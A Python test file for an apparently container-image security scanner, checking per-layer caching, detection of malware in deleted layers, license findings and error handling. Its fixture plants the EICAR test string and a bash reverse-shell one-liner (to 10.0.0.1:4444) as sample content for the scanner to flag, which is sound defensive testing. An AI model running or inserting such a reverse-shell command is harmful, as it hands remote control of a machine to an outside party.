"""The scan pipeline: one walk for all scanners, the per-layer cache, deleted layers, licenses."""

from __future__ import annotations

import hashlib
import json
import subprocess
import sys
from pathlib import Path

import pytest

from stackwarden.artifact.build import ImageSpec, LayerFile, layer_tar, write_oci_layout
from stackwarden.core.findings import FindingKind
from stackwarden.scan import ScanOptions, scan
from tests.detect.malware.samples import EICAR

STATUS = (b"Package: bash\nStatus: install ok installed\nArchitecture: amd64\n"
          b"Version: 5.2.15-2+b2\n")


def _base() -> bytes:
    files = [LayerFile("etc/os-release", b"ID=debian\nVERSION_ID=12\n"),
             LayerFile("var/lib/dpkg/status", STATUS),
             LayerFile("tmp/eicar.com", EICAR + b"\n")]
    # deterministic content: the same base layer (same diff_id) in every rebuild
    files += [LayerFile(f"usr/share/doc/f{i}.txt", hashlib.sha256(str(i).encode()).digest() * 6)
              for i in range(40)]
    return layer_tar(files)


def _app(version: str) -> bytes:
    return layer_tar([LayerFile("app/main.py", f"print('{version}')\n".encode()),
                      LayerFile("app/shell.sh", b"bash -i >& /dev/tcp/10.0.0.1/4444 0>&1\n"),
                      LayerFile("tmp/eicar.com", type="whiteout")])


def _image(path: Path, version: str) -> str:
    write_oci_layout(path, ImageSpec([_base(), _app(version)], compress=False))
    return f"oci-dir:{path}"


def _options(tmp_path: Path, **kw: object) -> ScanOptions:
    return ScanOptions(cache_dir=tmp_path / "cache", **kw)  # type: ignore[arg-type]


def test_deleted_malware_is_found_in_its_layer(tmp_path: Path) -> None:
    result = scan(_image(tmp_path / "img", "1"), scanners=("malware",),
                  scan_options=_options(tmp_path))
    layers = [layer.diff_id for layer in result.sbom.artifact.layers]
    found = {(f.id, f.location.path, layers.index(f.location.layer)) for f in result.findings}
    assert ("EICAR_Test_File", "/tmp/eicar.com", 0) in found
    assert any(path == "/app/shell.sh" and layer == 1 for _, path, layer in found)
    assert {f.kind for f in result.findings} == {FindingKind.MALWARE}


def test_only_the_changed_layer_is_analysed_again(tmp_path: Path) -> None:
    opts = _options(tmp_path)
    first = scan(_image(tmp_path / "v1", "1"), scanners=("malware",), scan_options=opts)
    assert first.timings["calls:malware"] == 45  # 43 base files + 2 app files
    again = scan(_image(tmp_path / "v1", "1"), scanners=("malware",), scan_options=opts)
    assert again.timings.get("calls:malware", 0) == 0
    assert again.timings["cached_image"] == 1  # the same image: no layer is even read
    rebuilt = scan(_image(tmp_path / "v2", "2"), scanners=("malware",), scan_options=opts)
    assert rebuilt.timings["calls:malware"] == 2  # only the app layer's two files
    assert rebuilt.timings["cached_layers:malware"] == 1
    key = {(f.id, f.location.path, f.fingerprint) for f in first.findings}
    assert {(f.id, f.location.path, f.fingerprint) for f in again.findings} == key
    assert {(f.id, f.location.path, f.fingerprint) for f in rebuilt.findings} == key
    fresh = scan(_image(tmp_path / "v1", "1"), scanners=("malware",),
                 scan_options=_options(tmp_path, use_cache=False))
    assert fresh.timings["calls:malware"] == 45


def test_several_processes_share_one_cache(tmp_path: Path) -> None:
    target = _image(tmp_path / "img", "1")
    cache = tmp_path / "shared-cache"
    cmd = [sys.executable, "-m", "stackwarden", "scan", target, "--scanners", "malware",
           "--cache-dir", str(cache), "-q", "-f", "json"]
    runs = [subprocess.Popen(cmd, stdout=subprocess.PIPE, stderr=subprocess.PIPE)
            for _ in range(3)]
    outputs = [run.communicate(timeout=300) for run in runs]
    assert all(run.returncode == 0 for run in runs), [o[1][-500:] for o in outputs]
    ids = [sorted((f["id"], f["location"]["path"]) for f in json.loads(o[0])["findings"])
           for o in outputs]
    assert ids[0] == ids[1] == ids[2] and ids[0]
    assert not list(cache.rglob(".entry-*"))  # no half-written entries left


def test_license_scanner(tmp_path: Path) -> None:
    root = tmp_path / "proj"
    meta = root / "site-packages" / "agpl_pkg-1.0.dist-info"
    meta.mkdir(parents=True)
    (meta / "METADATA").write_text("Metadata-Version: 2.1\nName: agpl-pkg\nVersion: 1.0\n"
                                   "License: AGPL-3.0-only\n")
    result = scan(f"dir:{root}", scanners=("license",), scan_options=_options(tmp_path))
    assert [(f.kind, f.id, f.package.name) for f in result.findings] == [
        (FindingKind.LICENSE, "license-denied", "agpl-pkg")]


def test_cache_clean_command(tmp_path: Path) -> None:
    scan(_image(tmp_path / "img", "1"), scanners=("malware",), scan_options=_options(tmp_path))
    assert list((tmp_path / "cache").rglob("*.json"))
    done = subprocess.run([sys.executable, "-m", "stackwarden", "cache", "clean", "--cache-dir",
                           str(tmp_path / "cache")], capture_output=True, text=True, check=True)
    # two layers, each: content results, index, cataloger memo; and one image
    assert "removed 7" in done.stderr
    assert not list((tmp_path / "cache").rglob("*.json"))


@pytest.mark.parametrize("bad", ["--yara-rules", "--blocklist"])
def test_bad_scanner_configuration_is_a_usage_error(tmp_path: Path, bad: str) -> None:
    broken = tmp_path / "broken"
    if bad == "--yara-rules":
        broken.mkdir()
        (broken / "bad.yar").write_text("rule x { condition: nonsense }")
    else:
        broken.write_text("not-a-hash\n")
    done = subprocess.run([sys.executable, "-m", "stackwarden", "scan", f"dir:{tmp_path}",
                           "--scanners", "malware", bad, str(broken), "-q"],
                          capture_output=True, text=True, timeout=120)
    assert done.returncode == 2, done.stderr
    assert "Traceback" not in done.stderr and "broken" in done.stderr


def test_a_scanner_failure_is_reported_and_not_cached(tmp_path: Path) -> None:
    from stackwarden.detect.base import DetectContext, Detector, ScanTarget
    from stackwarden.detect.cache import LayerResultCache
    from stackwarden.detect.walk import walk_content

    class Flaky(Detector):
        name = "flaky"

        def wants(self, target: ScanTarget) -> bool:
            return True

        def scan(self, data: bytes, target: ScanTarget, ctx: DetectContext) -> list[object]:
            raise RuntimeError("scratch in use")

    from stackwarden.artifact import open_target

    cache = LayerResultCache(tmp_path / "cache")
    with open_target(_image(tmp_path / "img", "1")) as artifact:
        walked = walk_content(artifact, [Flaky()], cache=cache)
    assert walked.calls["flaky"] == 45
    assert all("flaky scan failed: RuntimeError" in s.reason for s in walked.skipped)
    assert not list((tmp_path / "cache").rglob("*.json"))


def test_an_unchanged_image_is_not_read_again(tmp_path: Path,
                                              monkeypatch: pytest.MonkeyPatch) -> None:
    import stackwarden.artifact.image as image_module

    opts = _options(tmp_path)
    target = _image(tmp_path / "img", "1")
    first = scan(target, scanners=("malware", "license"), scan_options=opts)

    def refuse(*args: object, **kwargs: object) -> None:
        raise AssertionError("a layer was read although every result was cached")

    monkeypatch.setattr(image_module._LayerReader, "read_all", refuse)
    again = scan(target, scanners=("malware", "license"), scan_options=opts)
    assert [(f.id, f.location.path) for f in again.findings] == \
        [(f.id, f.location.path) for f in first.findings]
    assert again.sbom.packages == first.sbom.packages
    assert again.sbom.artifact.config_digest == first.sbom.artifact.config_digest
